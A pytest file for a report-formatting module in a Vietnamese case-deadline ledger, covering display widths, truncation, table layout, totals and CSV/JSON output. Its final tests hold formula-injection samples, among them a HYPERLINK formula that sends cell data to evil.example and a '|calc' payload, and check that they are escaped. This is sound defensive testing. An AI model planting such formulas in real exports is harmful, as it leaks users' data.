"""The text table of reports (ledger/reports/formats.py): display widths, fitting 100 columns,
yes/no, totals; and the CSV and JSON forms left exactly as they were."""

from __future__ import annotations

import json
import unicodedata

import pytest

from ledger.reports.formats import (
    REPORTS,
    TABLE_WIDTH,
    TABLES,
    Column,
    display_width,
    render,
    table,
    to_csv,
    truncate,
    wrap,
)

MESSAGE = "Hồ sơ HCM-2024-0901: STNMT trả lời C1 chậm 2 ngày làm việc so với hạn 2024-09-09."


def violation(**changes: object) -> dict[str, object]:
    row: dict[str, object] = {
        "rule": "LATE_RESPONSE", "case": "HCM-2024-0901", "consultation": "C1", "agency": "STNMT",
        "official": "stnmt.ltb", "due": "2024-09-09", "days_late": 2, "status": "closed",
        "deemed_consent": False, "finding": None, "clause": "Cơ quan được lấy ý kiến có trách nhiệm trả lời đúng hạn.",
        "evidence": ["e1", "e2"], "message_vi": MESSAGE, "message_en": "Case HCM-2024-0901: STNMT answered C1 late.",
    }
    row.update(changes)
    return row


def scorecard_row(agency: str, **changes: object) -> dict[str, object]:
    row: dict[str, object] = {
        "agency": agency, "official": f"{agency.lower()}.nguyenvana", "cases": 1952, "cases_on_time": 1653,
        "cases_late": 290, "cases_overdue_open": 9, "on_time_rate": 0.85, "score_766": 16.94, "consultations": 3648,
        "answered_on_time": 2878, "answered_late": 532, "unanswered_overdue": 94,
        "violations": {"APOLOGY_MISSING": 3, "BUCK_PASSING": 14, "CASE_OVERDUE": 6, "EVASIVE_RESPONSE": 19,
                       "LATE_RESPONSE": 42, "REPEATED_SUPPLEMENT_REQUEST": 3, "UNRELATED_CONSULTATION": 9},
    }
    row.update(changes)
    return row


def widest(text: str) -> int:
    return max(display_width(line) for line in text.splitlines())


def test_vietnamese_letters_are_one_column_combining_marks_none_and_cjk_two():
    assert display_width("Hồ sơ trễ hạn") == 13
    decomposed = unicodedata.normalize("NFD", "Hồ sơ trễ hạn")
    assert len(decomposed) > 13 and display_width(decomposed) == 13
    assert display_width("東京") == 4 and display_width("—") == 1


def test_truncate_cuts_by_display_width_with_an_ellipsis_and_keeps_marks_on_their_letter():
    assert truncate("ngày làm việc", 20) == "ngày làm việc"
    assert truncate("ngày làm việc", 8) == "ngày là…"
    cut = truncate(unicodedata.normalize("NFD", "việc việc"), 4)
    assert display_width(cut) == 4 and unicodedata.normalize("NFC", cut) == "việ…"
    assert display_width(truncate("東京都庁舎", 5)) <= 5


def test_wrap_fills_lines_up_to_the_width_and_breaks_overlong_words():
    lines = wrap(MESSAGE.split(), 30)
    assert all(display_width(line) <= 30 for line in lines) and " ".join(lines) == MESSAGE
    assert wrap(["x" * 25], 10) == ["x" * 10, "x" * 10, "x" * 5]


def test_booleans_print_as_yes_and_no_in_the_table_only():
    text = table([violation(deemed_consent=True), violation(deemed_consent=False)], TABLES["violations"])
    assert "True" not in text and "False" not in text
    deemed = [line.split()[6] for line in text.splitlines()[2:] if line.startswith("LATE_RESPONSE")]
    assert deemed == ["yes", "no"]
    assert to_csv([violation()], REPORTS["violations_csv"]).splitlines()[1].split(",")[8] == "False"


def test_the_violations_table_fits_keeps_totals_and_prints_each_message_whole_under_its_row():
    rows = [violation(), violation(rule="REPEATED_SUPPLEMENT_REQUEST", case="HCM-2025-0001234", days_late=None,
                                   official="skhdt.nguyenvanabcdef", message_vi=MESSAGE * 2)]
    text = render(rows, "table", "violations", footer=["rulebook r · calendar c"])
    lines = text.splitlines()
    assert widest(text) <= TABLE_WIDTH
    assert lines[0].startswith("rule") and "message_vi" in lines[0]
    assert lines[3] == "  " + MESSAGE
    assert " ".join(line.strip() for line in lines[5:7]) == MESSAGE * 2 and lines[7].startswith("-")
    assert lines[-3].startswith("total") and lines[-3].split()[-1] == "2"
    assert lines[-2:] == ["2 row(s)", "rulebook r · calendar c"]


def test_vietnamese_cells_stay_aligned_whether_composed_or_not():
    columns = (Column("agency", lambda r: r["agency"]), Column("days", lambda r: r["days"], numeric=True))
    rows = [{"agency": "Sở Xây dựng", "days": 4}, {"agency": unicodedata.normalize("NFD", "Sở Tư pháp"), "days": 12},
            {"agency": "SXD", "days": 1}]
    lines = table(rows, columns).splitlines()
    assert {display_width(line) for line in lines[2:5]} == {display_width(lines[0])}
    assert "Sở Tư pháp" in lines[3]  # normalised to NFC


def test_a_cell_too_wide_is_cut_and_a_list_wraps_in_its_column_between_items():
    rows = [{"agency": "A" * 60, "official": "o" * 60, "days": 958,
             "by_rule": {"NO_LEAD": 37, "LATE_RESPONSE": 173, "CASE_OVERDUE": 529, "WORK_PROGRAMME_LATE": 219,
                         "LATE_RECORDING": 64, "RESCHEDULE_MISSED": 3}, "cases": [f"HCM-{n}" for n in range(9)]}]
    text = render(rows, "table", "delays_by_official")
    assert widest(text) <= TABLE_WIDTH and "…" in text.splitlines()[2]
    body = [line for line in text.splitlines()[2:] if not line.startswith("-")][:-2]
    assert len(body) > 1 and all(line.rstrip().endswith(",") for line in body[:-1])
    assert " ".join(line.split("  ")[-1].strip() for line in body).count("CASE_OVERDUE 529") == 1


def test_the_scorecard_table_groups_its_headings_and_puts_the_violations_under_each_row():
    rows = [scorecard_row("SLDTBXH"), scorecard_row("SXD", violations={}, on_time_rate=None, score_766=None)]
    for report in ("scorecard", "scorecard_by_official"):
        text = render(rows, "table", report)
        lines = text.splitlines()
        assert widest(text) <= TABLE_WIDTH
        assert " cases " in lines[0] and " consultations " in lines[0] and lines[1].startswith("agency")
        assert lines[4].startswith("  violations: APOLOGY_MISSING 3, BUCK_PASSING 14")
        assert lines[5].startswith("  LATE_RESPONSE 42")  # a long list wraps under the row, indented
        sxd = next(i for i, line in enumerate(lines) if line.startswith("SXD"))
        assert lines[sxd + 1].startswith("-")  # no violations, no line for them
        assert lines[-2].startswith("total") and lines[-2].split()[1:] == ["3904", "3306", "580", "18", "7296",
                                                                          "5756", "1064", "188"]


@pytest.mark.parametrize("report", ["violations", "delays", "delays_by_official", "scorecard",
                                    "scorecard_by_official"])
def test_an_empty_report_still_has_its_headings_totals_and_count(report):
    lines = render([], "table", report).splitlines()
    assert lines[-1] == "0 row(s)" and lines[-2].startswith("total") and widest("\n".join(lines)) <= TABLE_WIDTH


def test_csv_and_json_keep_every_column_under_its_title():
    assert [c.title for c in REPORTS["violations_csv"]] == [
        "rule", "case", "consultation", "agency", "official", "due", "days_late", "status", "deemed_consent",
        "finding", "message_vi", "clause", "evidence", "message_en"]
    assert [c.title for c in REPORTS["scorecard"]] == [
        "agency", "cases", "cases_on_time", "cases_late", "cases_overdue_open", "on_time_rate", "score_766",
        "consultations", "answered_on_time", "answered_late", "unanswered_overdue", "violations"]
    assert [c.title for c in REPORTS["delays_csv"]] == ["agency", "days", "by_rule", "cases"]
    csv_line = render([violation()], "csv", "violations").splitlines()[1]
    assert csv_line.startswith("LATE_RESPONSE,HCM-2024-0901,C1,STNMT,stnmt.ltb,2024-09-09,2,closed,False,,")
    assert json.loads(render([violation()], "json", "violations")) == [violation()]


def test_a_csv_cell_that_starts_like_a_formula_is_written_as_text_for_spreadsheets():
    import csv as csv_module
    import io

    from ledger.reports.formats import REPORTS, to_csv

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1"]
    rows = [{"rule": "NO_LEAD", "case": value, "consultation": None, "agency": "SXD", "official": None,
             "due": "2024-01-02", "days_late": -1, "status": "open", "deemed_consent": False, "finding": None,
             "clause": "", "evidence": [], "message_vi": "", "message_en": ""} for value in hostile]
    read = list(csv_module.DictReader(io.StringIO(to_csv(rows, REPORTS["violations"]), newline="")))
    cases = [row[next(k for k in row if "case" in k.lower())] for row in read]
    assert cases == ["'" + value for value in hostile]
    assert {row[next(k for k in row if "days" in k.lower())] for row in read} == {"-1"}  # numbers stay numbers


def test_a_csv_cell_starting_with_a_pipe_or_an_apostrophe_is_escaped_too_so_no_two_values_read_alike():
    from ledger.reports.formats import inert

    assert [inert(v) for v in ["|calc", "'=1", "=1", "HCM-1", "—", 5, -3]] == [
        "'|calc", "''=1", "'=1", "HCM-1", "—", 5, -3]
